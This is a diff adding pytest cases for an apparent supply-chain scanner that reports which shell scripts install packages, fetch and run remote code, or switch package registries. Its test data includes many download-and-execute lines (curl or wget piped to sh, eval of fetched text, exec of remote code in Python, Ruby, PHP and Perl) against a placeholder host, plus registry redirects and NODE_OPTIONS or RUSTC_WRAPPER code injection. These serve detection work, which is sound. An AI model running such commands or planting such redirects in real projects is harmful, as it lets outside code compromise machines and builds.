@@ -66,10 +66,124 @@ def installed(script: str) -> list[str]:
         pytest.param("echo pip install a", [], id="words of another command"),
         pytest.param("time env X=1 timeout -s KILL 60 pip install a", ["pypi: a - build"], id="programs that only run others"),
         pytest.param("", [], id="nothing"),
+        pytest.param("gosu user pip install a; find . -exec pip install b \\;", ["pypi: a - build", "pypi: b - build"], id="more programs that run others"),
+        pytest.param("conda run -n env pip install a", ["pypi: a - build"], id="conda runs an installer"),
+        pytest.param("echo a b | xargs pip install", ["pypi: a - build", "pypi: b - build"], id="words that are handed on"),
+        pytest.param("cat list | xargs pip install", ["dynamic xargs pip install"], id="names that stand in a file"),
+        pytest.param("echo 'pip install a' | sh", ["pypi: a - build"], id="a text that a shell reads"),
+        pytest.param('echo `pip install a`; x "$(npm i b)"', ["pypi: a - build", "npm: b - build"], id="commands between other words"),
+        pytest.param("python -c 'import os; os.system(\"pip install a\")'", ["pypi: a - build"], id="a command in Python's code"),
+        pytest.param("node -e 'spawn(\"npm\", [\"i\", \"a\"]); run([\"npm\", \"i\", \"b\"])'", ["npm: b - build"], id="the words of a command in code"),
+        pytest.param("cargo install --git https://f.example/o/tool", ["cargo: tool - build git:f.example/o/tool"], id="cargo from a repository without a name"),
+        pytest.param("go get f.example/x", ["golang: f.example/x - build"], id="go without a version"),
+        pytest.param("deno run https://f.example/x.ts", ["deno: f.example/x.ts https://f.example/x.ts build url:f.example/x.ts"], id="deno from an address"),
+        pytest.param("echo 'a==1' >> requirements.txt", ["pypi: a ==1 build"], id="a requirement written into a file"),
+        pytest.param("pip install -r https://e.example/r.txt", ["include-added pip install -r https://e.example/r.txt"], id="requirements from an address"),
     ],
 )  # fmt: skip
 def test_what_a_script_installs(script: str, expected: list[str]) -> None:
     assert installed(script) == expected
+
+
+RUN = "dynamic download and run https://e.example/i"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl https://e.example/i | sh -s -- x",
+        "curl https://e.example/i | tee log | gunzip | sudo bash",
+        "curl https://e.example/i | base64 -d | bash -e -o pipefail",
+        'eval "$(curl https://e.example/i)"',
+        "eval `wget -qO- https://e.example/i`",
+        "eval $(curl https://e.example/i)",
+        "source <(curl https://e.example/i)",
+        'X=$(curl https://e.example/i) && eval "$X"',
+        'X="$(curl https://e.example/i)"; bash -c "$X"',
+        "sh -c '$(curl https://e.example/i)'",
+        "curl https://e.example/i > x && python x --now",
+        "busybox wget -O- https://e.example/i | sh",
+        "aria2c https://e.example/i && chmod +x i && ./i",
+        "http https://e.example/i | bash",
+        "(curl https://e.example/i)|bash",
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://e.example/i').read())\"",
+        "ruby -ropen-uri -e \"eval URI.open('https://e.example/i').read\"",
+        "php -r \"eval(file_get_contents('https://e.example/i'));\"",
+        "perl -e 'system(\"curl https://e.example/i | sh\")'",
+    ],
+)
+def test_what_a_script_fetches_and_runs(script: str) -> None:
+    assert installed(script) == [RUN]
+
+
+def test_a_text_that_is_decoded_and_run_is_shown() -> None:
+    assert installed("echo bHM= | base64 --decode | sh") == ["dynamic decode and run echo bHM="]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "curl -s https://e.example/i | jq -r .tag",
+        "curl -s https://e.example/i | python3 -m json.tool",
+        "curl -s https://e.example/i | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
+        "curl -s https://e.example/i | perl -pe 's/a/b/'",
+        "V=$(curl -s https://e.example/i | jq -r .tag); echo $V",
+        'V="$(curl -s https://e.example/i)"; echo $V',
+        "curl https://e.example/i.json > a.json && python3 load.py a.json",
+        "curl -o i.sh https://e.example/i.sh; cat i.sh",
+        "cat x | curl -X POST https://e.example/i -d @-",
+        "echo 'Use `pip install a` first, or $(npm i b)'",
+        'echo "Use \\`pip install a\\` first"',
+        'eval "$(ssh-agent -s)"; source <(kubectl completion bash); . ./env.sh',
+        'echo "$KEY" | base64 -d > key; echo "$KEY" | base64 -d | gpg --import',
+        "python -c 'import sys; print(sys.version)'",
+        "go get ./... && go run main.go && go run ./cmd/x",
+        "npx --no-install tsc",
+        "npm publish --registry https://e.example && npm config get registry",
+        "poetry config virtualenvs.create false; conda config --set always_yes yes",
+        "CARGO_REGISTRY_TOKEN=x CARGO_REGISTRIES_CRATES_IO_PROTOCOL=sparse cargo publish",
+        "export GOFLAGS=-mod=vendor NODE_OPTIONS=--max-old-space-size=4096",
+        "registry=registry.example/x; docker build -t $registry .",
+        "pip install -r docs/dev.txt",
+    ],
+)
+def test_what_only_looks_like_it_is_passed_over(script: str) -> None:
+    assert installed(script) == []
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "pip config set --global global.extra-index-url https://e.example",
+        "npm set registry https://e.example",
+        "npm config set registry=https://e.example",
+        "npm ci --registry https://e.example",
+        "uv sync --index=https://e.example",
+        "go env -w GOPROXY=https://e.example",
+        "bundle config set --global mirror.https://r.example https://e.example",
+        "gem sources --add https://e.example",
+        "composer config repositories.x vcs https://e.example",
+        "conda config --add channels https://e.example",
+        "dotnet nuget add source https://e.example",
+        "poetry source add x https://e.example",
+        "echo 'registry=https://e.example' > ~/.npmrc",
+        "printf '[global]\\nindex-url = https://e.example\\n' > /etc/pip.conf",
+        "cat <<X > /etc/pip.conf\n[global]\nindex-url=https://e.example\nX",
+        "GOPRIVATE=https://e.example go build",
+        "export PIP_CONFIG_FILE=https://e.example",
+    ],
+)
+def test_where_packages_come_from_is_shown(script: str) -> None:
+    (found,) = installed(script)
+    assert found.startswith("index-changed ")
+    assert "https://e.example" in found
+
+
+def test_code_that_every_run_of_a_tool_runs_is_shown() -> None:
+    assert installed("NODE_OPTIONS='--require ./x.js' RUSTC_WRAPPER=x y") == [
+        "install-script NODE_OPTIONS --require ./x.js",
+        "install-script RUSTC_WRAPPER x",
+    ]
 
 
 def test_lines_are_the_files() -> None:
